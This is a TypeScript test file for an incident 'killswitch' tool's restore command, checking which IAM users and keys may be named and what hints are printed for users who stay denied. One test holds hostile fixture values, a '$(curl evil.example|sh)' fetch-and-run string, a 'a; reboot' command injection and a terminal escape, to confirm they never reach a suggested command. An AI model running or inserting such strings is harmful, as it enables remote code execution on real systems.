import { describe, expect, it, vi } from 'vitest';
import { showDenied, userHint } from '../../bin/undo/denied-users.ts';
import { chosen } from '../../bin/undo/named-only.ts';
import type { JournalRecord } from '../../lambda/core/journal.ts';
import { InputError } from '../../lambda/core/settings.ts';
import type { IncidentRecords } from '../../lambda/shell/journal/incident-records.ts';

const record = (change: Pick<JournalRecord, 'kind' | 'id' | 'verb' | 'before'>): JournalRecord => ({
  schemaVersion: 1,
  incident: 'ks-1',
  run: 'ks-1',
  at: '2026-01-31T12:00:00.000Z',
  scope: 'global',
  ...change,
});
const deny = (id: string) => record({ kind: 'iam-user', id, verb: 'deny', before: { boundary: null } });
const records: IncidentRecords = {
  incident: 'ks-1',
  runs: [],
  records: [
    deny('Ci'),
    deny('eve'),
    record({ kind: 'iam-access-key', id: 'AKIA1', verb: 'disable', before: { user: 'eve' } }),
  ],
  unreadable: [],
  refused: new Set(),
};

describe('what a person names for a restore', () => {
  it('is a user, whose name ignores case, or a key', () => {
    const named = new Set(['iam-user/global/Ci', 'iam-access-key/global/AKIA1']);
    expect(chosen(records, { user: ['cI'], key: ['AKIA1'] })).toEqual(named);
  });

  it('is refused where the incident did not change it', () => {
    const wrong = () => chosen(records, { user: ['AKIA1', 'bob'], key: ['eve'] });
    expect(wrong).toThrow(InputError);
    expect(wrong).toThrow(
      /--key: eve was not disabled by ks-1\n--user: AKIA1 .*\n--user: bob was not denied/,
    );
  });

  it('is shown with those who stay denied, and with the way to lift that', () => {
    let said = '';
    const stderr = vi.spyOn(process.stderr, 'write').mockImplementation((text) => {
      said += text;
      return true;
    });
    const left = showDenied(records, chosen(records, { key: ['AKIA1'] }));
    stderr.mockRestore();
    expect(said).toMatch(/Ci +stays denied\n +eve +COMES BACK/);
    expect(userHint(left, './killswitch restore ks-1')).toContain('./killswitch restore ks-1 --user Ci');
  });

  it.each(['$(curl evil.example|sh)', 'a; reboot', '\u001b]0;title\u0007'])(
    'is never a command where somebody wrote %j into the journal',
    (name) => {
      const again = './killswitch restore ks-1';
      expect(userHint([name, 'Ci'], again)).toBe(`Still denied: Ci. For a user of yours: ${again} --user Ci`);
      expect(userHint([name], again)).not.toContain(name);
    },
  );
});
